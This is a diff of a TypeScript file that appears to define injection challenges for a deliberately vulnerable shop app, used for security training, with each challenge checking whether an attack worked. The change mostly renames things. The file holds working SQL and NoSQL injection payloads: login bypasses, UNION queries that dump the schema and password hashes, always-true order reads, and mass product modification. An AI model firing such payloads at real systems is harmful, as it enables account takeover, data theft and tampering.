@@ -1,19 +1,18 @@
-import { guestForm, productForm, orderItem } from '../../deployment/deployment.ts';
-import { searchAttempts } from './search-requests.ts';
+import { createGuestForm, createProductForm, toOrderItem } from '../../deployment/deployment.ts';
+import { createSearches } from './search-requests.ts';
 import {
   anyReply,
   changesState,
   readProduct,
   containsToken,
-  replyContains,
+  containing,
   isSuccess,
   type Challenge,
   type ChallengeContext,
   type Attempt,
 } from './challenge.ts';
 
-/** What breaks out of a query where words are pasted into one, in SQL and in MongoDB. */
-const escapes = (email: string) => [
+const createInjections = (email: string) => [
   { email: `${email}'--`, password: 'x' },
   { email: `' OR 1=1--`, password: 'x' },
   { email, password: `' OR '1'='1` },
@@ -26,9 +25,9 @@ const escapes = (email: string) => [
   { 'email[$ne]': 'x', 'password[$ne]': 'x' },
   { $where: 'true', email, password: 'x' },
 ];
-const logIn = (body: unknown): Attempt => ['post', '/api/users/login', { body }];
-const breakIn = (shop: ChallengeContext, email: string) =>
-  anyReply(shop, escapes(email).map(logIn), containsToken);
+const createLogin = (body: unknown): Attempt => ['post', '/api/users/login', { body }];
+const canBreakIn = (shop: ChallengeContext, email: string) =>
+  anyReply(shop, createInjections(email).map(createLogin), containsToken);
 
 const unions = [
   `')) UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master--`,
@@ -37,127 +36,128 @@ const unions = [
   '.*',
   '$where',
 ];
-/** Words that are to be taken for commands. */
 export const injection: readonly Challenge[] = [
   {
     name: 'Login Admin',
     attack: 'sign in as the admin with operators, quotes and comments instead of a password',
     successSign: 'a token',
-    isSolved: (shop) => breakIn(shop, shop.admin.email),
+    isSolved: (shop) => canBreakIn(shop, shop.admin.email),
   },
   {
     name: 'Login Jim',
-    attack: 'the same with a member whose e-mail is known',
+    attack: 'sign in with injections as a member whose e-mail address is known',
     successSign: 'a token',
-    isSolved: (shop) => breakIn(shop, shop.member.email),
+    isSolved: (shop) => canBreakIn(shop, shop.member.email),
   },
   {
     name: 'Login Bender',
-    attack: 'the same with a chef, in capitals and with spaces around',
+    attack: 'sign in with injections as a chef, e-mail address in capitals and with spaces',
     successSign: 'a token',
-    isSolved: (shop) => breakIn(shop, ` ${shop.chef.email.toUpperCase()} `),
+    isSolved: (shop) => canBreakIn(shop, ` ${shop.chef.email.toUpperCase()} `),
   },
   {
     name: 'Ephemeral Accountant',
-    attack: 'sign in as someone who was never registered, made up on the way',
+    attack: 'sign in to an account that only the injection defines',
     successSign: 'a token',
     isSolved: (shop) => {
       const email = 'accountant@example.com';
-      const made = { _id: 'f'.repeat(24), email, isAdmin: true, passwordHash: '', tokenVersion: 0 };
+      const forgedAccount = { _id: 'f'.repeat(24), email, isAdmin: true, passwordHash: '', tokenVersion: 0 };
       const union = `' UNION SELECT * FROM (SELECT 15 AS id, '${email}' AS email)--`;
       return anyReply(
         shop,
-        [...escapes(email), { ...made, password: '' }, { email: union, password: 'x' }].map(logIn),
+        [...createInjections(email), { ...forgedAccount, password: '' }, { email: union, password: 'x' }].map(
+          createLogin,
+        ),
         containsToken,
       );
     },
   },
   {
     name: 'Database Schema',
-    attack: 'ask every search and filter for what the database is made of',
-    successSign: 'a name that only the database knows',
+    attack: 'read the database schema by every search and filter',
+    successSign: 'an internal field or collection name',
     isSolved: (shop) =>
       anyReply(
         shop,
-        searchAttempts(shop, unions),
-        replyContains(/passwordHash|tokenVersion|stockMoves|ratingSum|sqlite/),
+        createSearches(shop, unions),
+        containing(/passwordHash|tokenVersion|stockMoves|ratingSum|sqlite/),
       ),
   },
   {
     name: 'User Credentials',
-    attack: 'ask every search and filter for accounts',
+    attack: 'read accounts by every search and filter',
     successSign: 'a hash, or a member’s e-mail',
     isSolved: (shop) =>
       anyReply(
         shop,
-        searchAttempts(shop, unions),
-        (reply) => replyContains(/\$2[aby]\$/)(reply) || replyContains(shop.member.email)(reply),
+        createSearches(shop, unions),
+        (reply) => containing(/\$2[aby]\$/)(reply) || containing(shop.member.email)(reply),
       ),
   },
   {
     name: 'Christmas Special',
-    attack: 'order a draft and a deleted item',
+    attack: 'order a draft and a deleted product',
     successSign: 'an order',
     isSolved: async (shop) => {
-      const { market, chef, member } = shop;
-      const draft = (await market.call('post', '/api/products', { token: chef.token })).body as {
+      const { app, chef, member } = shop;
+      const draft = (await app.call('post', '/api/products', { token: chef.token })).body as {
         _id: string;
       };
-      const gone = await market.createProduct(chef);
-      await market.call('delete', `/api/products/${gone._id}`, { token: chef.token });
-      const lines = [draft, gone].map((item) => [orderItem(item)]);
-      const tries = lines.flatMap((orderItems): Attempt[] => [
-        ['post', '/api/orders/guest', { body: guestForm(orderItems) }],
+      const deleted = await app.createProduct(chef);
+      await app.call('delete', `/api/products/${deleted._id}`, { token: chef.token });
+      const orders = [draft, deleted].map((product) => [toOrderItem(product)]);
+      const attempts = orders.flatMap((orderItems): Attempt[] => [
+        ['post', '/api/orders/guest', { body: createGuestForm(orderItems) }],
         [
           'post',
           '/api/orders',
           { body: { orderItems, deleted: false, published: true }, token: member.token },
         ],
       ]);
-      return anyReply(shop, tries, isSuccess);
+      return anyReply(shop, attempts, isSuccess);
     },
   },
   {
     name: 'NoSQL Exfiltration',
-    attack: 'read every order with a condition that is always true instead of a number',
+    attack: 'read all orders with an always-true condition as order number',
     successSign: 'an order',
     isSolved: (shop) => {
       const conditions = [`' || true || '`, '{"$ne":null}', '[$ne]', '*', '.*', `${shop.order._id}' || '1`];
-      const paths = conditions.flatMap((words) => {
-        const id = encodeURIComponent(words);
-        return [`/api/orders/guest/${id}`, `/api/orders/${id}`, `/api/orders/${id}/${shop.thief._id}`];
+      const paths = conditions.flatMap((condition) => {
+        const id = encodeURIComponent(condition);
+        return [`/api/orders/guest/${id}`, `/api/orders/${id}`, `/api/orders/${id}/${shop.attacker._id}`];
       });
-      const tries = paths.map((path): Attempt => ['get', path, { token: shop.thief.token }]);
-      return anyReply(shop, tries, replyContains('"orderItems"'));
+      const attempts = paths.map((path): Attempt => ['get', path, { token: shop.attacker.token }]);
+      return anyReply(shop, attempts, containing('"orderItems"'));
     },
   },
   {
     name: 'NoSQL Manipulation',
-    attack: 'change many items or reviews at once with a condition for an id',
-    successSign: 'an item that changed',
+    attack: 'change many products or reviews with a condition as id',
+    successSign: 'a changed product',
     isSolved: (shop) => {
       const id = { $ne: -1 };
-      const everything = encodeURIComponent(JSON.stringify(id));
+      const anyId = encodeURIComponent(JSON.stringify(id));
       const body = {
         id,
         _id: id,
         rating: 1,
         comment: 'the same for all',
-        ...productForm({ name: 'Taken over' }),
+        ...createProductForm({ name: 'Taken over' }),
       };
-      const { token } = shop.thief;
-      const tries: Attempt[] = [
-        ['post', `/api/products/${everything}/reviews`, { body, token }],
+      const { token } = shop.attacker;
+      const attempts: Attempt[] = [
+        ['post', `/api/products/${anyId}/reviews`, { body, token }],
         ['patch', '/api/products/reviews', { body, token }],
-        ['put', `/api/products/${everything}`, { body, token }],
-        ['put', `/api/products/${everything}`, { body, token: shop.otherChef.token }],
-        ['put', `/api/products/${everything}/0`, { body, token: shop.otherChef.token }],
-        ['delete', `/api/products/${everything}`, { token: shop.otherChef.token }],
+        ['put', `/api/products/${anyId}`, { body, token }],
+        ['put', `/api/products/${anyId}`, { body, token: shop.otherChef.token }],
+        ['put', `/api/products/${anyId}/0`, { body, token: shop.otherChef.token }],
+        ['delete', `/api/products/${anyId}`, { token: shop.otherChef.token }],
       ];
-      return changesState(shop, tries, async ({ market, ...rest }) => [
-        await readProduct({ market, ...rest }),
-        await market.collection('reviews').countDocuments(),
-        await market.collection('products').countDocuments({ name: { $ne: 'Taken over' } }),
+      return changesState(shop, attempts, async ({ app, ...rest }) => [
+        await readProduct({ app, ...rest }),
+        await app.collection('reviews').countDocuments(),
+        await app.collection('products').countDocuments({ name: { $ne: 'Taken over' } }),
       ]);
     },
   },
